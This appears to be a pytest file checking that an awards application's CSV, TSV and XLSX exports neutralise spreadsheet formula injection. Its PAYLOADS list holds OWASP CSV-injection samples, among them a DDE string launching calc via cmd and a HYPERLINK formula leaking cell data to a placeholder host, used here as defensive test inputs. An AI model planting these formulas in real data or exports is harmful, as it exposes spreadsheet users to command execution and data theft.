"""No exported text can run as a formula: one function (thidua.core.exports) for every writer.

The payloads are OWASP's CSV-injection examples; each must come out with a leading
apostrophe in CSV, TSV and XLSX, and as a string cell (never type ``f``) in a workbook.
"""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from awards.catalogue.resources import AwardResource
from awards.reports import excel as report_excel
from awards.resources import ConfermentResource
from campaigns.resources import RegistrationResource
from tests.factories import (
    AwardFactory,
    ConfermentFactory,
    PersonFactory,
    RegistrationFactory,
    UnitFactory,
)
from thidua.core.exports import Formula, safe_row, safe_text
from units.models import Person
from units.resources import PersonResource, UnitResource

PAYLOADS = [
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://x.test/?leak="&A1,"Bấm")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_gets_an_apostrophe(payload):
    assert safe_text(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "-5", "+84", "1,5", "a=b", "– gạch đầu dòng"])
def test_ordinary_text_and_plain_numbers_stay_as_written(text):
    assert safe_text(text) == text


def test_a_row_keeps_numbers_dates_and_our_own_formulas():
    ws = Workbook(write_only=True).create_sheet()
    live = WriteOnlyCell(ws, value="=1+1")
    assert live.data_type == "f"
    row = safe_row([3, -4.5, "=A1", Formula("=B1"), live])
    assert row[:4] == [3, -4.5, "'=A1", "=B1"]
    assert row[4].data_type == "s" and row[4].value == "'=1+1"


def _cells(resource, fmt: str) -> list[str]:
    dataset = resource.export()
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(dataset.export("xlsx"))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
        return [str(c.value) for c in cells if c.value is not None]
    text = dataset.export(fmt)
    return [
        v
        for row in csv.reader(io.StringIO(text), delimiter="\t" if fmt == "tsv" else ",")
        for v in row
    ]


def _hostile_objects(payload):
    unit = UnitFactory(name=payload)
    person = PersonFactory(full_name=payload, assigned_to=unit)
    AwardFactory(name=payload)
    ConfermentFactory(achievement=payload, person=person, unit=unit)
    RegistrationFactory(note=payload, person=person, unit=unit)


RESOURCES = [PersonResource, UnitResource, AwardResource, ConfermentResource, RegistrationResource]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
@pytest.mark.parametrize("resource", RESOURCES, ids=lambda r: r.__name__)
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_every_admin_export_neutralises_formulas(db, resource, fmt, payload):
    _hostile_objects(payload)
    cells = _cells(resource(), fmt)
    assert f"'{payload}" in cells
    assert payload not in cells


def test_the_person_export_writes_a_hyperlink_name_as_a_string(db):
    PersonFactory(full_name='=HYPERLINK("http://x.test","Bấm")')
    assert Person.objects.count() == 1
    sheet = load_workbook(io.BytesIO(PersonResource().export().export("xlsx"))).active
    name = sheet.cell(row=2, column=2)
    assert (name.data_type, name.value) == ("s", '\'=HYPERLINK("http://x.test","Bấm")')


def test_the_report_rows_go_through_the_same_function():
    ws = Workbook(write_only=True).create_sheet()
    report_excel._row(ws, ["@SUM(1,1)", 4])
    book = ws.parent
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(buffer).worksheets[0]
    assert [c.value for c in sheet[1]] == ["'@SUM(1,1)", 4]
